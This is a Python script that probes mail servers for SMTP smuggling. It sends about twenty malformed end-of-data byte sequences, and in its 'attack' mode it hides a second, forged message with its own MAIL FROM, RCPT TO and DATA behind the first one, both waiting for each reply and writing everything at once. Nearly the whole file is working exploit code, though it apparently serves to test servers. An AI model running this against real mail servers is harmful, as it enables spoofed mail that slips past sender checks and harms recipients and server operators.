#!/usr/bin/env python3
"""smuggle.py - which byte sequences a mail server takes for the end of data, and mails smuggled behind those.

usage: smuggle.py probe ADDRESS                      one line for each sequence: NAME SOURCE VERDICT
       smuggle.py attack ADDRESS PREFIX NAME...      the same for smuggled mails to PREFIX-NAME@example.org and PREFIX-NAME-at-once@...
       smuggle.py list                               NAME SOURCE BYTES (escaped)

Each sequence has a SOURCE address of its own (198.51.100.101 and up), so that what somebody in between says can be told
apart by it. `standard` is CRLF.CRLF, to see that the question is a good one.

A probe writes a body with the sequence, NOOP and the standard end behind it, at once. Verdict: `text`, one yes and
nothing more; `refused`, one no; `end`, when the server answers more than this one body, or that it does not know a command
(OpenSMTPD says so to commands that do not wait). An attack has two connections: in
one it waits for each answer, in the other it writes all at once. Verdict: the two results, `sent` or how it ended.
"""
import concurrent.futures
import sys

import smtpc

SEQUENCES = {
    "standard": b"\r\n.\r\n",
    "lf.lf": b"\n.\n", "lf.crlf": b"\n.\r\n", "lf.cr": b"\n.\r", "crlf.lf": b"\r\n.\n", "crlf.cr": b"\r\n.\r",
    "cr.cr": b"\r.\r", "cr.lf": b"\r.\n", "cr.crlf": b"\r.\r\n", "crcr.crlf": b"\r\r.\r\n", "crlf.crcrlf": b"\r\n.\r\r\n",
    "crcrlf.crcrlf": b"\r\r\n.\r\r\n", "lf.crcrlf": b"\n.\r\r\n", "crlf-nul.crlf": b"\r\n\0.\r\n", "crlf.nul-crlf": b"\r\n.\0\r\n",
    "crlf.nul-text-crlf": b"\r\n.\0any text\r\n", "lf.nul-lf": b"\n.\0\n",
    "crlf.cr-nul-lf": b"\r\n.\r\0\n", "cr-nul-lf.crlf": b"\r\0\n.\r\n", "lf-nul.lf": b"\n\0.\n",
}
NAMES = list(SEQUENCES)


def source(name):
    return "198.51.100.%d" % (101 + NAMES.index(name))


class Client(smtpc.Quiet):
    def __init__(self, address, name, recipient):
        super().__init__(address, source(name), 20)
        self.reply()
        self.say(b"EHLO client.example\r\n")
        self.say(b"MAIL FROM:<%s@client.example>\r\n" % name.encode())
        self.say(b"RCPT TO:<%s@example.org>\r\n" % recipient.encode())
        if self.say(b"DATA\r\n") != 354:
            raise smtpc.Ended("no 354")

    def rest(self):
        """All further replies, up to the end of the connection."""
        codes = []
        try:
            while True:
                codes.append(self.reply())
        except (OSError, smtpc.Ended):
            return codes


def probe(address, name):
    client = Client(address, name, "probe-" + name)
    behind = b"" if name == "standard" else b"\r\n.\r\n"
    first = client.say(b"Subject: probe\r\n\r\ntext" + SEQUENCES[name] + b"NOOP\r\n" + behind)
    try:
        client.socket.sendall(b"QUIT\r\n")
    except OSError:
        pass
    rest = client.rest()
    if first >= 400 and first != 500:
        return "refused"
    return "text" if rest == [221] else "end"


def attack(address, prefix, name, at_once):
    hidden = "%s-%s%s" % (prefix, name, "-at-once" if at_once else "")
    steps = [b"Subject: first\r\n\r\ntext" + SEQUENCES[name], b"MAIL FROM:<hidden@example.org>\r\n",
             b"RCPT TO:<%s@example.org>\r\n" % hidden.encode(), b"DATA\r\n", b"Subject: hidden\r\n\r\nhidden\r\n.\r\n"]
    client = Client(address, name, "first-" + hidden)
    try:
        if not at_once:
            codes = [client.say(step) for step in steps]
        else:
            client.socket.sendall(b"".join(steps))
            codes = [client.reply() for _ in steps]
        client.socket.sendall(b"QUIT\r\n")
        client.rest()
        return "sent" if codes == [250, 250, 250, 354, 250] else "answered %s" % codes
    except ConnectionResetError:
        return "reset"
    except (OSError, smtpc.Ended) as error:
        return "ended: %s" % error


def main():
    what = sys.argv[1]
    if what == "list":
        for name in NAMES:
            print(name, source(name), SEQUENCES[name].decode().encode("unicode_escape").decode())
        return
    address = sys.argv[2]
    with concurrent.futures.ThreadPoolExecutor(8) as pool:
        if what == "probe":
            results = list(zip(NAMES, pool.map(lambda name: probe(address, name), NAMES)))
        else:
            names = sys.argv[4:]
            pairs = pool.map(lambda name: "/".join(attack(address, sys.argv[3], name, once) for once in (False, True)), names)
            results = list(zip(names, pairs))
    for name, result in results:
        print(name, source(name), result)


if __name__ == "__main__":
    main()
